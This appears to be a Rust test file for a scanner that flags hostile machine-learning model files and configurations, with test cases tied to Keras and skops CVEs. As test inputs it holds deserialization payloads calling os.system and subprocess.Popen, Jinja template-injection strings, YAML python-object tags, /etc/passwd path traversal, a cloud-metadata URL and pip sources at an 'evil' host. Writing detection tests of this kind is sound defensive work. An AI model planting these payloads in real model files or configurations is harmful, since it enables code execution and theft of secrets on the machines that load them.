//! Tests of configurations: rows of the bypass table, and files of the genuine libraries.
#![allow(
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::cast_possible_truncation,
    reason = "tests may panic"
)]

use crate::Verdict;
use crate::testing::{has, scan, scan_named};

fn keras(layer: &str) -> String {
    format!(
        r#"{{"module":"keras","class_name":"Sequential","config":{{"name":"s","layers":[{layer}]}},"registered_name":null}}"#
    )
}

const LAMBDA: &str = r#"{"module":"keras.layers","class_name":"Lambda","config":{"function":{"class_name":"__lambda__","config":{"code":"4wEAAA=="}}}}"#;

/// Rows CVE-2024-3660, CVE-2025-1550, CVE-2025-8747, CVE-2025-9905, CVE-2025-9906, CVE-2025-49655:
/// code in a Keras configuration is hostile at any depth (C1).
#[test]
fn code_in_a_keras_configuration_is_hostile_at_any_depth() {
    let nested = format!(
        r#"{{"module":"keras.layers","class_name":"TimeDistributed","config":{{"layer":{}}}}}"#,
        keras(LAMBDA)
    );
    for layer in [
        LAMBDA,
        nested.as_str(),
        r#"{"class_name":"Lambda","config":{"function":["4wEA",null,null],"function_type":"lambda"}}"#,
        r#"{"module":"builtins","class_name":"function","config":"exec","registered_name":"function"}"#,
        r#"{"module":"os","class_name":"function","config":"system","registered_name":"system"}"#,
        r#"{"module":"os","class_name":"system","config":"id","registered_name":null}"#,
        r#"{"config":["id"],"class_name":"Popen","module":"subprocess"}"#,
        r#"{"module":"keras.utils","class_name":"function","config":"get_file"}"#,
        r#"{"module":"keras.src.utils.file_utils","class_name":"get_file","config":{}}"#,
        r#"{"module":"keras.config","class_name":"function","config":"enable_unsafe_deserialization"}"#,
        r#"{"module":"keras.layers","class_name":"TorchModuleWrapper","config":{"module":"x"}}"#,
        r#"{"module":"keras.layers","class_name":"TFSMLayer","config":{"filepath":"x"}}"#,
        r#"{"module":"keras.layers","class_name":"\u004cambda","config":{}}"#,
    ] {
        let report = scan(keras(layer).as_bytes());
        assert_eq!(report.verdict, Verdict::Hostile, "{layer}");
        assert!(has(&report, "scan.keras.code"), "{layer}: {:?}", report.sightings);
    }
    crate::testing::mutations_are_never_cleared(keras(LAMBDA).as_bytes(), LAMBDA.as_bytes());
}

/// Row CVE-2025-12058: a path that a layer would read is hostile; a word list is not.
#[test]
fn paths_in_a_keras_configuration_are_hostile() {
    for config in [
        r#"{"vocabulary":"/etc/passwd"}"#,
        r#"{"vocabulary":"words.txt"}"#,
        r#"{"vocabulary":"http://169.254.169.254/latest"}"#,
        r#"{"cache":{"dir":"../../x"}}"#,
    ] {
        let layer =
            format!(r#"{{"module":"keras.layers","class_name":"StringLookup","config":{config}}}"#);
        assert!(has(&scan(keras(&layer).as_bytes()), "scan.keras.path"), "{config}");
    }
    let listed = r#"{"module":"keras.layers","class_name":"StringLookup","config":{"vocabulary":["/","a://b"]}}"#;
    assert_eq!(scan(keras(listed).as_bytes()).verdict, Verdict::Cleared);
}

/// Classes that are on no list, or that something registered would replace, are not cleared.
#[test]
fn keras_classes_are_matched_whole() {
    for (layer, cleared) in [
        (
            r#"{"module":"keras.layers","class_name":"Dense","config":{},"registered_name":null}"#,
            true,
        ),
        (r#"{"module":"keras.layers","class_name":"dense","config":{}}"#, false),
        (r#"{"module":"keras.layer","class_name":"Dense","config":{}}"#, false),
        (r#"{"module":"mine","class_name":"Dense","config":{}}"#, false),
        (
            r#"{"module":"keras.layers","class_name":"Dense","config":{},"registered_name":"Custom>D"}"#,
            false,
        ),
        (r#"{"class_name":"Dense","config":{}}"#, true),
        (r#"{"class_name":"MyLayer","config":{}}"#, false),
        (r#"{"module":"builtins","class_name":"function","config":"relu"}"#, true),
        (r#"{"module":"builtins","class_name":"function","config":"my_loss"}"#, false),
    ] {
        let report = scan(keras(layer).as_bytes());
        let expected = if cleared { Verdict::Cleared } else { Verdict::NotCleared };
        assert_eq!(report.verdict, expected, "{layer}: {:?}", report.sightings);
    }
}

/// Rows on skops (CVE-2025-54412, CVE-2025-54413): functions that run code are hostile, unknown
/// types and methods not cleared.
#[test]
fn skops_nodes_are_judged_by_type_and_function() {
    let node = |loader: &str, module: &str, class: &str| {
        format!(
            r#"{{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{{"f":{{"__class__":"{class}","__module__":"{module}","__loader__":"{loader}"}}}},"protocol":2}}"#
        )
    };
    for (loader, module, class, expected) in [
        ("FunctionNode", "os", "system", Verdict::Hostile),
        ("FunctionNode", "posix", "system", Verdict::Hostile),
        ("TypeNode", "subprocess", "Popen", Verdict::Hostile),
        ("OperatorFuncNode", "builtins", "call", Verdict::Hostile),
        ("OperatorFuncNode", "operator", "methodcaller", Verdict::Hostile),
        ("MethodNode", "builtins", "list", Verdict::NotCleared),
        ("ObjectNode", "mine", "Model", Verdict::NotCleared),
        ("StrangeNode", "builtins", "dict", Verdict::NotCleared),
        ("ObjectNode", "sklearn.pipeline", "Pipeline", Verdict::Cleared),
    ] {
        let report = scan(node(loader, module, class).as_bytes());
        assert_eq!(report.verdict, expected, "{loader} {module}.{class}: {:?}", report.sightings);
    }
}

/// Functions as skops' first protocol names them.
#[test]
fn functions_of_the_first_protocol_are_judged() {
    let node = r#"{"__class__":"function","__module__":"builtins","__loader__":"FunctionNode","content":{"module_path":"os","function":"system"}}"#;
    assert_eq!(scan(node.as_bytes()).verdict, Verdict::Hostile);
}

/// Rows on tokenizer, Hugging Face and Hydra configurations and MLmodel.
#[test]
fn configurations_that_import_or_reach_out_are_found() {
    let hostile = [
        ("t.json", r#"{"chat_template":"{{ ''.__class__ }}"}"#),
        ("t.json", r#"{"chat_template":[{"name":"a","template":"{{ ''['__cl'~'ass__'] }}"}]}"#),
        ("x.json", r#"{"anything":["{{ cycler.__init__.__globals__.os }}"]}"#),
        ("x.json", r#"{"_target_":"os.system","_args_":["id"]}"#),
        ("x.json", r#"{"model":{"a":[{"_target_":"builtins.eval"}]}}"#),
        ("x.json", r#"{"weight_map":{"w":"../../../etc/passwd"}}"#),
        ("x.json", r#"{"weight_map":{"w":"/etc/passwd"}}"#),
        ("x.json", r#"{"py/object":"os.system"}"#),
        ("x.json", r#"{"py/reduce":[{"py/function":"os.system"}]}"#),
        ("c.yaml", "model:\n  _target_: subprocess.Popen\n"),
        ("c.yaml", "a: &x os.system\nmodel:\n  _target_: *x\n"),
        ("c.yaml", "x: !!python/object/apply:os.system [id]\n"),
        ("c.yaml", "x: !!python/name:os.system\n"),
        ("c.yaml", "%TAG ! tag:yaml.org,2002:python/\n---\nx: !object/apply:os.system [id]\n"),
        ("c.yaml", "x: !<tag:yaml.org,2002:python/object/new:os.system> [id]\n"),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n"),
        ("MLmodel", "flavors:\n  sklearn:\n    pickled_model: ../../../x.pkl\n"),
        ("x.json", r#"{"tokenizer_file":"../../../etc/passwd"}"#),
        ("x.json", r#"{"weightsManifest":[{"paths":["../../x.bin"]}]}"#),
        ("x.json", r#"{"auto_mapping":{"base_model_class":"system","parent_library":"os"}}"#),
        ("config", "{_target_: os.system}"),
    ];
    for (name, text) in &hostile[..hostile.len() - 1] {
        let report = scan_named(name, text.as_bytes());
        assert_eq!(report.verdict, Verdict::Hostile, "{text}: {:?}", report.sightings);
    }
    for (name, text) in [
        ("config.json", r#"{"auto_map":{"AutoModel":"modeling_x.Model"}}"#),
        ("config.json", r#"{"auto_map":{"AutoTokenizer":["them/repo--tok.Tok",null]}}"#),
        ("x.json", r#"{"trust_remote_code":true}"#),
        ("x.json", r#"{"_target_":"mine.Model"}"#),
        ("x.json", r#"{"_target_":"${oc.env:X}"}"#),
        ("modules.json", r#"[{"idx":0,"name":"0","path":"","type":"mine.Module"}]"#),
        ("model_index.json", r#"{"_class_name":"P","unet":["my_module","U"]}"#),
        ("x.json", r#"{"lc":1,"type":"constructor","id":["a"],"kwargs":{}}"#),
        ("x.json", r#"{"a":1,"a":2}"#),
        ("config.json", r#"{"_attn_implementation":"them/kernels"}"#),
        ("x.json", r#"{"auto_mapping":{"base_model_class":"M","parent_library":"mine"}}"#),
        (
            "modules.json",
            r#"[{"idx":0,"name":"0","path":"","type":"sentence_transformers.evil.run"}]"#,
        ),
        ("a.ipynb", r#"{"cells":[],"nbformat":4}"#),
        ("c.yaml", "trust_remote_code: yes\n"),
        ("c.yaml", "x: !mine y\n"),
        ("c.yaml", "? [_target_]\n: os.system\n"),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: mine\n"),
        ("MLmodel", "flavors:\n  python_function:\n    code: code\n"),
        ("conda.yaml", "dependencies:\n- pip:\n  - git+https://evil/x\n"),
    ] {
        let report = scan_named(name, text.as_bytes());
        assert_eq!(report.verdict, Verdict::NotCleared, "{text}: {:?}", report.sightings);
    }
    assert_ne!(
        scan_named(hostile[hostile.len() - 1].0, hostile[hostile.len() - 1].1.as_bytes()).verdict,
        Verdict::Cleared
    );
}

/// Lists of packages: names and versions are cleared, addresses, paths and options are not.
#[test]
fn lists_of_packages_install_from_the_index_alone() {
    let good = "# pinned\nnumpy==2.4.6\nscikit-learn[all]>=1.9,<2; python_version > \"3.9\"\ntorch\nx==1 --hash=sha256:00 \\\n  --hash=sha256:11\n";
    let report = scan_named("requirements.txt", good.as_bytes());
    assert_eq!(report.verdict, Verdict::Cleared, "{:?}", report.sightings);
    for line in [
        "--extra-index-url https://evil/simple",
        "-i http://evil",
        "-e .",
        "-r ../other.txt",
        "git+https://evil/x.git",
        "https://evil/x.whl",
        "x @ file:///tmp/x.whl",
        "./x",
        "../x.whl",
        "x --global-option=\"--no-user-cfg\"",
        "--trusted-host evil",
    ] {
        let report = scan_named("requirements.txt", format!("numpy==1\n{line}\n").as_bytes());
        assert!(has(&report, "scan.requirement.odd"), "{line}");
    }
}

/// What is written as these libraries write it is cleared.
#[test]
fn genuine_configurations_are_cleared() {
    for (name, file) in [
        ("mlp.json", &include_bytes!("../../corpus/benign/keras/mlp.json")[..]),
        ("mlp.keras.config.json", include_bytes!("../../corpus/benign/keras/mlp.json")),
        ("classifier.json", include_bytes!("../../corpus/benign/xgboost/classifier.json")),
        ("pipeline.skops", include_bytes!("../../corpus/benign/skops/pipeline.skops")),
        ("tree.skops", include_bytes!("../../corpus/benign/skops/tree.skops")),
        ("MLmodel", include_bytes!("../../corpus/benign/config/MLmodel")),
        ("conda.yaml", include_bytes!("../../corpus/benign/config/conda.yaml")),
        ("tokenizer.json", include_bytes!("../../corpus/benign/config/tokenizer.json")),
        ("tokenizer_config.json", include_bytes!("../../corpus/benign/config/tokenizer_config.json")),
        ("config.json", include_bytes!("../../corpus/benign/config/config.json")),
        ("model.safetensors.index.json", br#"{"metadata":{"total_size":8},"weight_map":{"a":"model-00001-of-00002.safetensors"}}"#),
        ("modules.json", br#"[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"}]"#),
        (
            "modules.json",
            br#"[{"idx":1,"name":"1","path":"1","type":"sentence_transformers.sparse_encoder.models.SpladePooling"}]"#,
        ),
        (
            "adapter_config.json",
            br#"{"auto_mapping":{"base_model_class":"LlamaModel","parent_library":"transformers.models.llama.modeling_llama"}}"#,
        ),
        ("model_index.json", br#"{"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"],"safety_checker":[null,null]}"#),
    ] {
        let report = scan_named(name, file);
        assert_eq!(report.verdict, Verdict::Cleared, "{name}: {:?}", report.sightings);
        if !name.ends_with(".yaml") && name != "MLmodel" {
            let file = file.trim_ascii_end();
            crate::testing::cuts_are_never_cleared(&file[..file.len().min(4000)]);
        }
        crate::testing::mutations_never_panic(file);
    }
}

/// JSON as Python reads it; all else, and a key that is there twice (C2), is not cleared.
#[test]
fn malformed_json_is_not_cleared() {
    for good in
        [r#"{"a":[1,-2.5e3,NaN,true,null,"\u00e9\ud83d\ude00\n"]}"#, "[]", "{}", "\u{feff}{}"]
    {
        assert_eq!(scan(good.as_bytes()).verdict, Verdict::Cleared, "{good}");
    }
    for bad in [
        r#"{"a":1,}"#,
        "[1,]",
        "[1 2]",
        r#"{"a"}"#,
        r#"{"a":01}"#,
        r#"{"a":1.}"#,
        r#"{} x"#,
        "[}",
        "{\"a\":\"\n\"}",
        r#"["\x41"]"#,
        r#"["\u12g4"]"#,
        r#"{"a":'b'}"#,
        "{\"a\":\"\u{1}\"}",
        "{}{}",
    ] {
        assert_ne!(scan(bad.as_bytes()).verdict, Verdict::Cleared, "{bad}");
    }
    assert_ne!(scan("[".repeat(100_000).as_bytes()).verdict, Verdict::Cleared);
}

/// UBJSON of XGBoost is cleared, cut it is not; claims beyond the file and hidden code are found.
#[test]
fn ubjson_is_judged_as_json_is() {
    let file = include_bytes!("../../corpus/benign/xgboost/classifier.ubj");
    let report = scan(file);
    assert_eq!(report.verdict, Verdict::Cleared, "{:?}", report.sightings);
    assert_eq!(report.formats, ["ubjson", "xgboost"]);
    crate::testing::cuts_are_never_cleared(file);
    crate::testing::mutations_never_panic(file);
    for (bytes, expected) in [
        (&b"{i\x08_target_Si\x09os.system}"[..], Verdict::Hostile),
        (b"{i\x01a[$d#L\xff\xff\xff\xff\xff\xff\xff\xff", Verdict::NotCleared),
        (b"{i\x01a[$Z#L\x7f\xff\xff\xff\xff\xff\xff\xff}", Verdict::NotCleared),
        (b"{i\x01a[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff", Verdict::NotCleared),
        (b"{i\x01aZi\x01aZ}", Verdict::NotCleared),
        (b"{i\x01aZ}x", Verdict::NotCleared),
        (b"{i\x01aZ}", Verdict::Cleared),
    ] {
        assert_eq!(scan(bytes).verdict, expected, "{bytes:?}");
    }
    let deep = [&b"{i\x01a"[..], &b"[".repeat(100_000)].concat();
    assert_eq!(scan(&deep).verdict, Verdict::NotCleared);
}

/// Rows on `.keras` and `.skops`: what is in the archive is judged, whatever its members are called.
#[test]
fn archives_of_keras_and_skops_are_judged_by_their_members() {
    for (file, rule) in [
        (&include_bytes!("../../corpus/hostile/zip/lambda.keras")[..], "scan.keras.code"),
        (include_bytes!("../../corpus/hostile/zip/weights.keras"), "scan.hdf5.external"),
        (include_bytes!("../../corpus/hostile/zip/system.skops"), "scan.skops.code"),
    ] {
        let report = scan(file);
        assert_eq!(report.verdict, Verdict::Hostile, "{rule}: {:?}", report.sightings);
        assert!(has(&report, rule), "{rule}: {:?}", report.sightings);
        crate::testing::mutations_never_panic(file);
        crate::testing::cuts_are_never_cleared(file);
    }
}
